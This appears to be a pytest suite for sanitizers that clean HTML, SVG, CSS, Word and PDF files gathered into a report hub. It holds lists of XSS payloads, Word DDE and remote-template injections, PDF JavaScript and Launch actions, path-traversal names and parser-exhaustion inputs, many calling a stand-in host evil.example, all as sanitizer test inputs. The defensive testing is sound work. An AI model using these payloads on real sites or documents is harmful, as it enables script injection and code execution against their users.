"""What comes from elsewhere may be anything: the hub stays whole and clean, and says so in a line.

Authorities: OWASP's cheat sheets on cross-site scripting and the evasion of its filters, ECMA-376
for what a Word file may hold, ISO 32000-1 (12.6 actions, 7.11 files) for PDF, and the names that
Windows keeps.
"""

from __future__ import annotations

import base64
import contextlib
import io
import os
import re
import socket
import time
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from PIL import Image
from sent_outputs import ANNEX, everything, remember_cleaning, send, write_reports

from evaluation.publish.clean_document import check_pdf, clean_word
from evaluation.publish.clean_drawing import clean_image
from evaluation.publish.clean_lists import UnsafeError, is_link
from evaluation.publish.clean_page import clean_page
from evaluation.publish.clean_style import is_harmless
from evaluation.publish.hub import collect
from evaluation.report.typeface import font_faces

Once = Callable[[str, Callable[[Path], object]], Path]
EVIL = "https://evil.example"


@pytest.fixture(autouse=True)
def _cleaned_once(monkeypatch: pytest.MonkeyPatch) -> None:
    remember_cleaning(monkeypatch)


@pytest.fixture(scope="module")
def reports(once: Once) -> Path:
    return once("sent-reports", write_reports)


def svg(inside: str = "", given: str = "") -> str:
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'{given}><rect width="1" height="1"/>'
        f'<rect width="5" height="5"/>{inside}</svg>'
    )
    return "data:image/svg+xml;base64," + base64.b64encode(drawing.encode()).decode()


HOSTILE = [
    "<script>alert(1)</script>",
    f'<script src="{EVIL}/x.js"></script>',
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    "<p/onmouseover='alert(1)'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    f'<img src="{EVIL}/pixel.png">',
    f'<img srcset="{EVIL}/pixel.png 2x">',
    f'<img src="//{EVIL[8:]}/pixel.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///C:/Windows/x.exe">x</a>',
    '<a href="\\\\evil.example\\share">x</a>',
    f'<a ping="{EVIL}" href="#x">x</a>',
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><input name=code><button>Send</button></form>',
    f'<video src="{EVIL}" autoplay></video><audio src="{EVIL}"></audio>',
    f'<svg><image href="{EVIL}/x.png"/><script>alert(1)</script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>p {{ background: url({EVIL}/x) }}</style>",
    f"<style>p {{ background: u\\72l({EVIL}/x) }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({EVIL}/x) }}</style>",
    f"<style>p {{ background: image-set('{EVIL}/x' 1x) }}</style>",
    f"""<style>a{{content:"/*"}} p{{background:url({EVIL}/x)}} b{{content:"*/"}}</style>""",
    f'<p style="background:url({EVIL}/x)">x</p>',
    f"<!--[if IE]><script src={EVIL}></script><![endif]-->",
    f'<table background="{EVIL}/x"><tr><td>x</table>',
    f'<body onload=alert(1) background="{EVIL}/x">',
    f'<img src="{svg(f"<script>alert(1)</script><image href={EVIL!r}/>")}">',
    f'<img src="{svg(f"<use xlink:href={EVIL!r}/><a href={EVIL!r}><text>x</text></a>")}">',
    f'<img src="{svg(f"<style>rect {{ fill: url({EVIL}/x) }}</style>")}">',
    f'<img src="{svg("", "onload=" + repr("alert(1)"))}">',
    f'<img src="{svg("<foreignObject><iframe/></foreignObject><animate/><set/>")}">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
]
BAD = re.compile(
    r"""<(?!meta\ charset|meta\ http-equiv="Content-Security|meta\ name="viewport)
        (script|iframe|object|embed|link|meta|base|form|input|button|video|audio|svg|math|image
        |animate|set|use|template|noscript|foreignObject)\b
    |<[a-z][^<>]*\s(on[a-z]+|srcset|ping|background|srcdoc)\s*=
    |href\s*=\s*["']?\s*[a-z]*(script|data|file):
    |src="(?!data:image/)|evil\.example|alert\(1\)|@import|@font-face|url\((?!\#)""",
    re.VERBOSE | re.IGNORECASE,
)


# A drawing of a report, part by part: shapes and words with what places and colours them.
DRAWN = re.compile(
    r"""<svg(\ (xmlns|class|role|aria-label|width|height|viewBox|font-family)="[^"<>]*")+>
    (<(rect|line|circle|polygon)(\ (x|y|x1|y1|x2|y2|cx|cy|r|width|height|points|fill|stroke
    |stroke-width)="[^"<>():]*")+\ ?/>
    |<text(\ (x|y|font-size|font-weight|fill|text-anchor)="[^"<>():]*")+>[^<>]*</text>)*</svg>""",
    re.VERBOSE,
)


def pictures(page: str) -> str:
    """The drawings of a page, unpacked."""
    found = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page)
    return "".join(base64.b64decode(drawing).decode() for drawing in found)


@pytest.mark.sampled(4)
@pytest.mark.parametrize("file", [ANNEX, pytest.param("report.html", marks=pytest.mark.slow)])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_a_page_runs_or_loads_wherever_it_stands(
    reports: Path, hostile: str, file: str
) -> None:
    text = (reports / file).read_text("utf-8")
    for changed in (
        text.replace("</main>", f"{hostile}</main>"),
        text.replace("</head>", f"{hostile}</head>"),
        hostile + text,
    ):
        assert changed.count(hostile) > text.count(hostile)
        try:
            cleaned = clean_page(changed.encode())[0].decode()
        except UnsafeError:  # what stood in front has swallowed all of it
            assert "<math" in changed
            continue
        assert_harmless(cleaned)


def assert_harmless(cleaned: str) -> None:
    body = cleaned.replace(font_faces(), "")  # our own typeface, letter for letter
    body = re.sub(r"base64,[A-Za-z0-9+/=]+", "base64,", body)
    drawn = re.findall(r'<svg [^<>]*role="img".*?</svg>', body, re.DOTALL)
    assert all(DRAWN.fullmatch(drawing) for drawing in drawn)
    for drawing in drawn:
        body = body.replace(drawing, "")
    assert not (bad := BAD.search(body)), bad
    assert not (
        bad := re.search(
            r"script|evil|alert\(1|onload|<a\b|<image|<set|<animate|foreignObject|url\((?!#)",
            pictures(cleaned),
        )
    ), bad


@pytest.mark.sampled(4)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_a_page_runs_or_loads_whatever_its_hashes_say(
    tmp_path: Path, reports: Path, hostile: str
) -> None:
    page = (reports / "report.html").read_text("utf-8")
    send(tmp_path / "outputs", "one", reports, instead={"report.html": (hostile + page).encode()})
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert collected.taken == (not hostile.startswith("<math"))
    if collected.taken:
        assert_harmless((tmp_path / "hub/pathfinder/one/report.html").read_text("utf-8"))


INLINE = (
    '<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="{}"><circle r="1"/>{}</svg>'
)


def test_a_drawing_in_a_page_stays_and_what_it_should_not_hold_goes() -> None:
    drawing = INLINE.format("Change (s) of behaviour: 5", "<text>A &lt; B</text>")
    page, taken_out = clean_page(f"<p>x</p>{drawing}".encode())
    assert not taken_out
    assert '<circle r="1" />' in page.decode()
    assert 'aria-label="Change (s) of behaviour: 5"' in page.decode()
    assert "A &lt; B" in page.decode()
    for bad in (
        '<circle r="1" onclick="alert(1)"/>',
        "<script>alert(1)</script>",
        "<foreignObject><p>evil</p></foreignObject>",
        f'<image href="{EVIL}/x.png"/>',
        f"<style>@import '{EVIL}/x.css';</style>",
    ):
        cleaned = clean_page(f"<p>x</p>{INLINE.format('a', bad)}".encode())[0].decode()
        assert_harmless(cleaned)


def test_a_drawing_in_an_attribute_cannot_leave_it() -> None:
    hidden = INLINE.format("' onclick='alert(1)' x='", "").replace('"', "'")
    for around in ("<p title='{}'>x</p>", '<p title="{}">x</p>', "<a href='{}'>x</a>"):
        for drawing in (hidden, INLINE.format(" onclick=alert(1) ", "")):
            assert_harmless(clean_page(around.format(drawing).encode())[0].decode())
    forged = (
        '<p title="<span class=&quot;&#xE000;0&quot;></span>">x</p><span class="&#xE000;7"></span>'
    )
    page = clean_page((forged + INLINE.format("a", "")).encode())[0].decode()
    assert page.count("<svg") == 1
    assert_harmless(page)


def test_drawings_without_an_end_take_no_longer_than_others() -> None:
    start = time.process_time()
    with suppress(UnsafeError):
        clean_page(("<svg " * 200_000).encode())
    assert time.process_time() - start < 5


def test_what_was_taken_out_is_one_line_for_the_editor(tmp_path: Path, reports: Path) -> None:
    page = (reports / "report.html").read_text("utf-8")
    page = page.replace("</main>", '<script>x</script><p onclick="x">y</p></main>')
    send(tmp_path / "outputs", "one", reports, instead={"report.html": page.encode()})
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    [note] = collected.notes
    assert note.code == "hub.cleaned"
    assert "script, onclick" in note.problem
    assert "script" not in (tmp_path / "hub/pathfinder/one/report.html").read_text("utf-8")


def test_a_page_that_we_wrote_stays_word_for_word(reports: Path) -> None:
    for name in ("report.html", ANNEX):
        before = (reports / name).read_bytes()
        after, taken_out = clean_page(before)
        assert not taken_out
        assert clean_page(after) == (after, ())
        assert words(after) == words(before)
        assert b"Content-Security-Policy" in after


def words(page: bytes) -> list[str]:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(page, "html.parser")
    assert soup.body
    shown = soup.body
    shape = [(tag.name, sorted(k for k in tag.attrs if k != "rel")) for tag in shown(True)]
    return [*shown.get_text().split(), *map(str, shape)]


@pytest.mark.parametrize(
    "page",
    ["<div>" * 200_000, "<div></b>" * 20_000, "<" * 10**6, "<b><p>" * 100_000, "&" * 9**6],
    ids=["deep", "deep, with ends of others", "open", "doubled", "signs"],
)
def test_a_page_built_to_hold_up_a_reader_is_not_taken(page: str) -> None:
    with pytest.raises(UnsafeError):
        clean_page(page.encode())


@pytest.mark.parametrize(
    "page", ["<a b='" * 20_000, "<!" * 50_000, "<p onx" + " " * 99_999, "&" * 9**5]
)
def test_a_broken_page_takes_no_long_time(page: str) -> None:
    started = time.monotonic()
    with contextlib.suppress(UnsafeError):
        clean_page(page.encode())
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("css", "harmless"),
    [
        ("p { color: rgb(1 2 3); margin: calc(1rem + 2px) }", True),
        ("@media (max-width: 40rem) { p:not(.x) { color: var(--ink) } }", True),
        ("html { scroll-behavior: smooth }", True),
        ("p { background: URL (x) }", True),  # with a space it is no function, so nothing loads
        ("p { background: URL(x) }", False),
        ("p { background: url(#own) }", False),
        ("@import 'x'", False),
        ("@IMPORT 'x'", False),
        ("p { behavior: x }", False),
        ("p { color: \\72 ed }", False),
        ("p { background: -webkit-image-set('x' 1x) }", False),
        ("p { background: cross-fade('x', 'y') }", False),
        ("</style>", False),
    ],
)
def test_a_stylesheet_that_could_load_something_is_refused(css: str, harmless: bool) -> None:
    assert is_harmless(css) is harmless


def word(reports: Path, **parts: str | tuple[str, str]) -> bytes:
    """The report's Word file with a part added (``+name``) or with words put in another's place."""
    made = io.BytesIO()
    with zipfile.ZipFile(reports / "report.docx") as source, zipfile.ZipFile(made, "w") as target:
        for name in source.namelist():
            text = source.read(name)
            if name in parts and isinstance(parts[name], tuple):
                before, after = parts[name]
                assert before.encode() in text
                text = text.replace(before.encode(), after.encode())
            target.writestr(name, text)
        for name, content in parts.items():
            if isinstance(content, str):
                target.writestr(name, content)
    return made.getvalue()


RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"


def relation(kind: str, target: str, mode: str = "External") -> dict[str, tuple[str, str]]:
    given = (
        f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    return {RELS: ("</Relationships>", f"{given}</Relationships>")}


def in_body(xml: str) -> dict[str, tuple[str, str]]:
    return {"word/document.xml": ("<w:body>", f"<w:body>{xml}")}


@pytest.mark.sampled(4)
@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": "x"},
        {"word/embeddings/oleObject1.bin": "x"},
        {"word/embeddings/list.xlsx": "x"},
        {"word/activeX/activeX1.xml": "<x/>"},
        {"customXml/item1.xml": "<x/>"},
        {"../evil.xml": "<x/>"},
        {"word/afchunk.html": "<script>"},
        {"word/media/a.emf": "x"},
        {"word/media/a.png": "no picture"},
        relation("image", f"{EVIL}/pixel.png"),
        relation("attachedTemplate", f"{EVIL}/x.dotm"),
        relation("oleObject", f"{EVIL}/x"),
        relation("frame", EVIL),
        relation("hyperlink", "file:///C:/x.exe"),
        relation("hyperlink", "\\\\evil.example\\share"),
        relation("hyperlink", "ms-word:ofe|u|x"),
        relation("image", "../../x.png", "Internal"),
        in_body("<w:object/>"),
        in_body("<w:altChunk/>"),
        in_body("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
        in_body(
            "<w:p><w:r><w:instrText>DD</w:instrText><w:instrText>E x</w:instrText></w:r></w:p>"
        ),
        in_body('<w:p><w:del w:id="1"><w:r><w:delText>She is 14.</w:delText></w:r></w:del></w:p>'),
        in_body("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>She is 14.</w:t></w:r></w:p>"),
        in_body(f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {EVIL}/x"/></w:p>'),
        {"word/document.xml": ("<w:document ", "<!DOCTYPE x [<!ENTITY e 'e'>]><w:document ")},
        {
            "[Content_Types].xml": (
                "wordprocessingml.document.main+xml",
                "ms-word.document.macroEnabled.main+xml",
            )
        },
    ],
    ids=str,
)
def test_a_word_file_that_could_run_load_or_hide_something_is_not_taken(
    tmp_path: Path, reports: Path, parts: dict[str, str | tuple[str, str]]
) -> None:
    changed = word(reports, **parts)
    with pytest.raises(UnsafeError):
        clean_word(changed)
    send(tmp_path / "outputs", "one", reports, instead={"report.docx": changed})
    send(tmp_path / "outputs", "two", reports)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [entry.slug for entry in collected.entries] == ["two"]
    assert [note.code for note in collected.notes] == ["hub.unsafe"]


def test_a_word_file_that_we_wrote_is_taken_and_keeps_its_words(reports: Path) -> None:
    from docx import Document

    before = (reports / "report.docx").read_bytes()
    after = clean_word(b"MZ and then some" + before)  # what stands before or after a package goes
    assert after.startswith(b"PK")
    told = [[p.text for p in Document(io.BytesIO(c)).paragraphs] for c in (before, after)]
    assert told[0] == told[1]


def test_a_word_file_with_spoilt_bytes_is_not_taken_and_stops_nobody(reports: Path) -> None:
    whole = (reports / "report.docx").read_bytes()
    refused = 0
    for place in range(0, 20_000, 199):
        try:
            clean_word(whole[:place] + bytes(range(200, 232)) + whole[place + 32 :])
        except UnsafeError:
            refused += 1
    assert refused > 80


def test_a_part_of_a_word_file_says_the_letters_it_was_read_with(reports: Path) -> None:
    """A part that calls itself UTF-7 could hold elements that are only letters to us."""
    parts: dict[str, str | tuple[str, str]] = {
        "word/settings.xml": ("encoding='UTF-8'", "encoding='US-ASCII'")
    }
    with zipfile.ZipFile(io.BytesIO(clean_word(word(reports, **parts)))) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                assert b"UTF-8" in package.read(name).partition(b"?>")[0]


def test_a_style_of_a_drawing_is_read_to_its_end() -> None:
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>a { fill: red }<g/>'
        f"@import '{EVIL}/x.css';</style><path d='M0 0'/></svg>"
    )
    cleaned = clean_image(drawing.encode())
    assert cleaned
    assert b"evil" not in cleaned[1]
    assert b"path" in cleaned[1]


def _drawing_of_itself(levels: int, width: int) -> bytes:
    groups = "".join(
        f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * width + "</g>"
        for level in range(1, levels)
    )
    return (
        '<svg xmlns="http://www.w3.org/2000/svg"><defs><path id="g0" d="M0 0h1"/>'
        f'{groups}</defs><use href="#g{levels - 1}"/></svg>'
    ).encode()


@pytest.mark.parametrize(("levels", "width", "taken"), [(3, 30, True), (12, 10, False)])
def test_a_drawing_that_names_itself_without_end_is_not_taken(
    levels: int, width: int, taken: bool
) -> None:
    """A browser that is given the longer one does not come back."""
    assert (clean_image(_drawing_of_itself(levels, width)) is not None) is taken
    circle = b'<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#a"/></g></svg>'
    assert clean_image(circle) is None


@pytest.mark.parametrize(
    ("address", "leads_below"),
    [
        ("report.html#s-1", True),
        ("annex-1-pre_post.html", True),
        ("https://example.org/a%2Fb", True),
        ("%2e%2e/hub-editor/board.html", False),
        (".%2E/board.html", False),
        ("%5C%5Cevil.example%5cshare", False),
        ("a%2f..", False),
    ],
)
def test_a_link_leads_to_the_web_or_below_the_hub(address: str, leads_below: bool) -> None:
    assert is_link(address) is leads_below


@pytest.mark.parametrize("content", [b"", b"PK\x05\x06" + bytes(18), b"no package", b"%PDF-1.7"])
def test_what_is_no_word_file_is_not_taken(content: bytes) -> None:
    with pytest.raises(UnsafeError):
        clean_word(content)


def pdf(reports: Path, change: str) -> bytes:
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(reports / "report.pdf"))
    name = NameObject

    def action(kind: str, **given: str) -> DictionaryObject:
        texts = {name(f"/{key}"): TextStringObject(value) for key, value in given.items()}
        return DictionaryObject({name("/S"): name(kind), **texts})

    if change == "script":
        writer.root_object[name("/Names")] = DictionaryObject(
            {name("/JavaScript"): action("/JavaScript", JS="app.alert(1)")}
        )
    elif change == "attachment":
        writer.add_attachment("list.csv", b"names")
    elif change == "open":
        writer.root_object[name("/OpenAction")] = action("/URI", URI=EVIL)
    elif change == "launch":
        writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): action("/Launch", F="x.exe")})
    elif change == "file link":
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="file:///C:/x.exe"))
    elif change == "place of a photograph":
        noted = Image.Exif()
        noted[0x010E] = "taken at home"
        taken = io.BytesIO()
        Image.new("RGB", (9, 9)).save(taken, "JPEG", exif=noted)
        picture = StreamObject.initialize_from_dictionary(
            {name("/Subtype"): name("/Image"), "__streamdata__": taken.getvalue()}
        )
        writer.root_object[name("/Picture")] = writer._add_object(picture)
    elif change == "encrypted":
        writer.encrypt("", "x")
    elif change == "earlier version":
        return (reports / "report.pdf").read_bytes() + b"\nstartxref\n9\n%%EOF\n"
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "change",
    [
        "script",
        "attachment",
        "open",
        "launch",
        "file link",
        "encrypted",
        "place of a photograph",
        "earlier version",
    ],
)
def test_a_pdf_that_could_run_open_or_carry_something_is_not_taken(
    reports: Path, change: str
) -> None:
    with pytest.raises(UnsafeError):
        check_pdf(pdf(reports, change))


def test_a_pdf_that_does_nothing_is_taken(reports: Path) -> None:
    check_pdf((reports / "report.pdf").read_bytes())
    check_pdf(pdf(reports, ""))


@pytest.mark.parametrize(
    "content",
    [b"", b"<html>", b"%PDF-1.7\nrubbish", b"%PDF-1.7\n1 0 obj\n<< /Open#41ction 2 0 R >>"],
)
def test_what_is_no_pdf_is_not_taken(content: bytes) -> None:
    with pytest.raises(UnsafeError):
        check_pdf(content)


def test_a_part_of_a_pdf_that_nothing_refers_to_is_looked_at_too(reports: Path) -> None:
    left_over = b"\n999 0 obj\n<< /S /Java#53cript /JS (app.alert) >>\nendobj\n"
    with pytest.raises(UnsafeError):
        check_pdf((reports / "report.pdf").read_bytes() + left_over)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("findings.json", b"{}"),
        ("findings.json", b"[" * 100_000),
        (
            "findings.json",
            b'{"schema":"pathfinder-findings/1","deliverable":"one",'
            b'"edition":"restricted","findings":[]}',
        ),
        (
            "findings.json",
            b'{"schema":"pathfinder-findings/1","deliverable":"another",'
            b'"edition":"public","findings":[]}',
        ),
        ("report.html", b"\xff\xfe\x00<"),
        ("report.html", b""),
    ],
    ids=range(6),
)
def test_a_damaged_file_holds_its_deliverable_back_and_no_other(
    tmp_path: Path, reports: Path, name: str, content: bytes
) -> None:
    send(tmp_path / "outputs", "one", reports, instead={name: content})
    send(tmp_path / "outputs", "two", reports)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [entry.slug for entry in collected.entries] == ["two"]
    assert [note.code for note in collected.notes] == ["hub.unsafe"]


@pytest.mark.parametrize(
    "text", ["", "{", "[" * 100_000, "null", '{"slug": "one"}', '"\\ud800"', "\x00" * 99]
)
def test_a_damaged_manifest_is_one_line(tmp_path: Path, reports: Path, text: str) -> None:
    publish = send(tmp_path / "outputs", "one", reports)
    (publish / "manifest.json").write_text(text)
    send(tmp_path / "outputs", "two", reports)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [entry.slug for entry in collected.entries] == ["two"]
    assert [note.code for note in collected.notes] == ["hub.manifest-damaged"]


@pytest.mark.parametrize(
    "name",
    [
        "../internal/findings.json",
        "manifest.json",
        "index.html",
        "report.docm",
        "annex-../x.html",
        "/etc/passwd",
        "C:\\x.html",
        "report.html\n",
        "Report.html",
        ".htaccess",
        "annex-ü.html",
    ],
)
def test_a_manifest_names_only_what_a_run_writes(tmp_path: Path, reports: Path, name: str) -> None:
    send(tmp_path / "outputs", "one", reports, files={"report.html": "0", name: "0"})
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [note.code for note in collected.notes] == ["hub.not-taken"]
    assert "PRIVATE" not in everything(tmp_path / "hub")


@pytest.mark.parametrize(
    "folder",
    [
        "index.html",
        "catalogue.json",
        "assets",
        "INDEX.HTML",
        "con",
        "nul",
        "com1",
        "LPT9",
        "Üb",
        "a b",
        "-a",
        "a.b",
        "a\nb",
        "\x1b[31mred",
        "report.html",
        "x" * 200,
    ],
)
def test_a_folder_is_called_what_every_system_and_the_hub_can_have(
    tmp_path: Path, reports: Path, folder: str
) -> None:
    send(tmp_path / "outputs", folder, reports)
    send(tmp_path / "outputs", "good", reports)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [entry.slug for entry in collected.entries] == ["good"]
    [note] = collected.notes
    assert note.code == "hub.bad-name"
    assert str(note).isprintable()


@pytest.mark.skipif(os.name != "posix", reason="pipes, devices and sockets with a name")
@pytest.mark.parametrize("where", ["outputs/x", "outputs/one/publish", "file", "manifest.json"])
@pytest.mark.parametrize("kind", ["pipe", "link", "link to itself", "socket", "device"])
def test_links_pipes_and_devices_are_refused_without_being_opened(
    tmp_path: Path, reports: Path, where: str, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    publish = send(Path("outputs"), "one", reports)
    send(Path("outputs"), "two", reports)
    place = {"file": publish / "report.pdf", "manifest.json": publish / "manifest.json"}.get(
        where, Path(where)
    )
    if place.exists():
        place.rename(f"kept-{place.name}")
    if kind == "pipe":
        os.mkfifo(place)
    elif kind == "socket":
        socket.socket(socket.AF_UNIX).bind(str(place))
    elif kind == "device":
        try:
            os.mknod(place, 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero: it never ends
        except PermissionError:
            pytest.skip("only an administrator makes devices")
    else:
        place.symlink_to(
            place.name if kind == "link to itself" else tmp_path / f"kept-{place.name}"
        )
    collected = collect([Path("outputs")], Path("hub"))
    others = {"two"} if where != "outputs/x" else {"one", "two"}
    assert {entry.slug for entry in collected.entries} == others
    assert [note.code for note in collected.notes] == ["hub.no-plain-file"]


@pytest.mark.skipif(os.name != "posix", reason="links without special rights")
def test_a_deliverables_folder_that_is_a_link_is_not_followed(
    tmp_path: Path, reports: Path
) -> None:
    send(tmp_path / "private", "one", reports)
    (tmp_path / "outputs").mkdir()
    (tmp_path / "outputs/one").symlink_to(tmp_path / "private/one")
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert collected.taken == 0
    assert [note.code for note in collected.notes] == ["hub.no-plain-file"]


def test_a_file_too_large_to_be_a_report_is_not_read_to_its_end(
    tmp_path: Path, reports: Path
) -> None:
    publish = send(tmp_path / "outputs", "one", reports)
    with (publish / "report.pdf").open("r+b") as stream:
        stream.truncate(2**31)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [note.code for note in collected.notes] == ["hub.too-large"]


def test_what_cannot_be_read_is_one_line(
    tmp_path: Path, reports: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    send(tmp_path / "outputs", "one", reports)
    send(tmp_path / "outputs", "two", reports)
    opened = os.open

    def refuse(path: Path, *given: int, **named: int) -> int:
        if "one" in Path(path).parts and "outputs" in Path(path).parts:
            raise PermissionError(13, "Permission denied")
        return opened(path, *given, **named)

    monkeypatch.setattr("evaluation.publish.receiving.os.open", refuse)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert [entry.slug for entry in collected.entries] == ["two"]
    [note] = collected.notes
    assert note.code == "hub.not-readable"
    assert "Permission denied" in note.problem


def test_words_from_elsewhere_are_words_on_both_pages(tmp_path: Path, reports: Path) -> None:
    evil = "<script>alert(1)</script>\"'&"
    told = dict.fromkeys(("title", "subtitle", "area", "programme", "access_conditions"), evil)
    send(tmp_path / "outputs", "one", reports, **told, made_on=evil, headlines=(evil,))
    send(tmp_path / "outputs", "two", reports, marking=evil)
    collected = collect([tmp_path / "outputs"], tmp_path / "hub")
    assert collected.taken == 1
    for page in (tmp_path / "hub/index.html", collected.board):
        assert "<script" not in page.read_text("utf-8")
        assert "Content-Security-Policy" in page.read_text("utf-8")


def test_two_hundred_things_to_find_are_not_in_the_hub(tmp_path: Path, reports: Path) -> None:
    """Marks where nobody looks: properties, comments, remarks, attributes, other files."""
    marks = [f"canary{n:03}" for n in range(200)]
    page = (reports / "report.html").read_text("utf-8")
    hidden = "".join(
        f'<!-- {mark} --><meta name="{mark}" content="{mark}"><p data-{mark}="{mark}" on{mark}=1>'
        f"<template>{mark}</template></p>"
        for mark in marks[:100]
    )
    drawing = svg(
        f"<metadata>{marks[100]}</metadata><title>{marks[101]}</title><!--{marks[102]}-->"
    )
    changed = page.replace("</main>", f'{hidden}<img src="{drawing}"></main>')
    bare = {
        "word/people.xml": f"<x>{marks[103]}</x>",
        "word/document.xml": ("<w:body>", f"<!--{marks[104]}--><w:body>"),
        "docProps/core.xml": (
            "</cp:coreProperties>",
            f"<dc:description>{marks[105]}</dc:description></cp:coreProperties>",
        ),
    }
    publish = send(
        tmp_path / "outputs",
        "one",
        reports,
        instead={"report.html": changed.encode(), "report.docx": word(reports, **bare)},
    )
    for mark in marks[106:]:
        (publish / f"{mark}.txt").write_text(mark)
    assert collect([tmp_path / "outputs"], tmp_path / "hub").taken == 1
    text = everything(tmp_path / "hub") + pictures(
        (tmp_path / "hub/pathfinder/one/report.html").read_text("utf-8")
    )
    with zipfile.ZipFile(tmp_path / "hub/pathfinder/one/report.docx") as package:
        text += "".join(package.read(name).decode("latin-1") for name in package.namelist())
    assert not [mark for mark in marks if mark in text]
